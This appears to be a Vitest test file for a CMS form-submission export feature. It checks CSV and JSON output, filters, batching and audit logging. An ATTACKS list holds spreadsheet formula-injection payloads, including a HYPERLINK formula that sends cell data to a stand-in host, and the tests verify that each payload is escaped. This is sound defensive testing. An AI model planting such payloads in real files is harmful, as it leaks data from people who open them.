import { parse } from 'csv-parse/sync'
import { beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { insertSubmission, type NewSubmission } from '#cms/leads/forms/receive.server.ts'
import type { Cms } from '#cms/core/cms.ts'
import { sqlOf } from '#cms/core/sql.server.ts'
import { openTestCms, person } from '#tests/setup/cms.ts'
import { askInbox, sent, trail } from '#tests/setup/leads/inbox.ts'

let cms: Cms
let sales: Awaited<ReturnType<typeof person>>

beforeAll(async () => {
  cms = await openTestCms()
  sales = await person(cms, 'sales')
})

beforeEach(async () => {
  await sqlOf(cms).query('DELETE FROM submissions')
})

const insert = (fields: Partial<NewSubmission> = {}) => insertSubmission(cms, sent(fields))

async function csv(query: Record<string, unknown> = {}) {
  const answer = await askInbox(cms, sales, '/export', { query: { format: 'csv', ...query } })
  const bytes = new Uint8Array(await answer.arrayBuffer())
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
  const rows = parse<Record<string, string>>(text, { columns: true, bom: true, record_delimiter: '\r\n' })
  return { headers: answer.headers, text, rows }
}

const ATTACKS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '  =1',
  '\u00a0=1',
  '\t=1',
  '"=1',
  `'=1`,
  '“=1',
  '＝1',
  '＋1',
  '－1',
  '＠a',
  '\u200b=1',
  'Hello\n=1',
  'Hello;=1',
  '=HYPERLINK("https://evil.example?"&A1)',
]

test('the CSV has a byte order mark, CRLF, a column for each answer, and the date in its name', async () => {
  await insert({ name: 'Ada "Countess", Lovelace', message: 'Two\nlines', company: 'Größe & Söhne' })
  await insert({
    form: 'schedule-demo',
    name: 'Grace',
    answers: { timeZone: 'Europe/Berlin', times: ['mon-morning', '2026-11-25-afternoon'], topics: [] },
  })
  const { headers, text, rows } = await csv()
  expect(headers.get('content-disposition')).toMatch(/^attachment; filename="submissions-\d{4}-\d\d-\d\d\.csv"$/)
  expect(headers.get('content-type')).toMatch(/^text\/csv/)
  expect([text.startsWith('\uFEFF"Number","Sent","Form"'), text.endsWith('"\r\n')]).toEqual([true, true])
  expect(rows).toMatchObject([
    {
      Name: 'Grace',
      'Time zone': 'Europe/Berlin',
      'Preferred times': 'Mondays, morning; Wednesday, 25 November 2026, afternoon',
      Role: '',
    },
    { Name: 'Ada "Countess", Lovelace', Message: 'Two\nlines', Company: 'Größe & Söhne', Role: 'Engineer', Campaign: 'utm_source=news' },
  ])
})

test('an internationalized address is exported as it was typed', async () => {
  await insert({ email: 'info@xn--bcher-kva.example' })
  expect((await csv()).rows).toMatchObject([{ Email: 'info@bücher.example' }])
})

test.each(ATTACKS)('%j is escaped in every cell', async (attack) => {
  await insert({ name: attack, message: attack, company: attack, answers: { role: attack, times: [attack, attack] } })
  const { rows } = await csv()
  const cells = Object.values(rows[0] ?? {})
  const begins = /(?:^|[;\t\r\n])[\s"'“\u200b]*[=+\-@＝＋－＠]/
  const bare = cells.filter((cell) => begins.test(cell.replaceAll(/'(?=[\s"'“\u200b]*[=+\-@\t\r＝＋－＠])/g, 'safe')))
  expect(bare).toEqual([])
  expect(rows[0]?.Name).toContain("'")
})

test('the JSON has the texts as they were sent, without internal fields', async () => {
  await insert({ name: '=1+1' })
  const [doc] = (await (await askInbox(cms, sales, '/export', { query: { format: 'json' } })).json()) as Record<string, unknown>[]
  expect(doc).toMatchObject({ name: '=1+1', answers: { role: 'Engineer' }, assignee: null })
  expect(Object.keys(doc ?? {})).not.toEqual(expect.arrayContaining(['idempotencyKey']))
  expect(Object.keys(doc ?? {})).not.toEqual(expect.arrayContaining(['person']))
})

test('an export without submissions is an empty table and an empty list', async () => {
  expect((await csv()).rows).toEqual([])
  expect(await (await askInbox(cms, sales, '/export', { query: { format: 'json' } })).json()).toEqual([])
})

describe('the filter of the list', () => {
  test('applies to the file, with spam only if the filter asks for it', async () => {
    await insert({ name: 'Ham' })
    await insert({ name: 'Spam', status: 'spam' })
    const names = async (query: Record<string, unknown>) => (await csv(query)).rows.map(({ Name }) => Name)
    expect(await names({})).toEqual(['Ham'])
    expect(await names({ where: { or: [{ and: [{ status: { equals: 'spam' } }] }] } })).toEqual(['Spam'])
    expect(await names({ search: 'ham' })).toEqual(['Ham'])
  })

  test('applies over many batches without gaps', async () => {
    await sqlOf(cms).query(
      `INSERT INTO submissions (form, status, name, email, created_at, updated_at)
       SELECT 'sca-waitlist', 'new', 'N' || n, n || '@example.com', now(), now() FROM generate_series(1, 1203) n`,
    )
    const { rows } = await csv()
    expect(new Set(rows.map(({ Name }) => Name)).size).toBe(1203)
  })

  test('is in the audit log with the count, without personal data', async () => {
    await insert({ email: 'secret@example.com' })
    const where = { and: [{ form: { equals: 'contact-sales' } }, { email: { equals: 'secret@example.com' } }] }
    await csv({ where })
    const line = (await trail(cms, 'exported')).at(-1)
    expect(line?.details).toEqual({ count: 1, format: 'csv', filter: expect.stringContaining('form equals contact-sales, email equals …') })
  })

  test('with an unknown field is rejected, as is an unknown format', async () => {
    expect((await askInbox(cms, sales, '/export', { query: { where: { secret: { equals: 1 } } } })).status).toBe(400)
    expect((await askInbox(cms, sales, '/export', { query: { format: 'xlsx' } })).status).toBe(400)
  })
})
